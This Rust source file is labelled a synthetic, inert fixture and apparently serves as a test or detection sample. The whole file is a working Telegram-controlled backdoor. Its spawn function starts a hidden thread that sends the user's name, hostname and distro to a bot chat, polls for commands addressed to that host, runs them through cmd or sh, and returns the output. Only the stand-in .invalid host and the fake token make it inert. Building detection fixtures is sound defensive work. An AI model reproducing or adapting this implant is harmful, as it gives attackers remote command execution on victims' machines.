// Synthetic, inert fixture written from public reports; see README
use serde_json::Value;
use std::process::Command;
use std::sync::Once;
use std::thread;
use std::time::Duration;

static ONCE: Once = Once::new();
const API: &str = "https://api.telegram.invalid/bot0000000000:FAKE-TOKEN-OF-A-FIXTURE";
const CHAT: &str = "-1000000000000";

pub fn spawn() {
    ONCE.call_once(|| {
        thread::spawn(|| {
            let c = reqwest::blocking::Client::new();
            let id = format!("{}@{}", whoami::username(), whoami::fallible::hostname().unwrap_or_default());
            say(&c, &format!("new: {id} {}", whoami::distro()));
            let mut offset = 0i64;
            loop {
                let url = format!("{API}/getUpdates?timeout=50&offset={offset}");
                if let Ok(v) = c.get(&url).timeout(Duration::from_secs(60)).send().and_then(|r| r.json::<Value>()) {
                    for u in v["result"].as_array().cloned().unwrap_or_default() {
                        offset = u["update_id"].as_i64().unwrap_or(0) + 1;
                        let t = u["message"]["text"].as_str().unwrap_or("");
                        if let Some(cmd) = t.strip_prefix(&format!("/{id} ")) {
                            let o = if cfg!(windows) {
                                Command::new("cmd").args(["/C", cmd]).output()
                            } else {
                                Command::new("sh").args(["-c", cmd]).output()
                            };
                            say(&c, &o.map(|o| String::from_utf8_lossy(&o.stdout).to_string()).unwrap_or_default());
                        }
                    }
                }
                thread::sleep(Duration::from_secs(3));
            }
        });
    });
}

fn say(c: &reqwest::blocking::Client, t: &str) {
    let _ = c.post(format!("{API}/sendMessage")).form(&[("chat_id", CHAT), ("text", t)]).send();
}
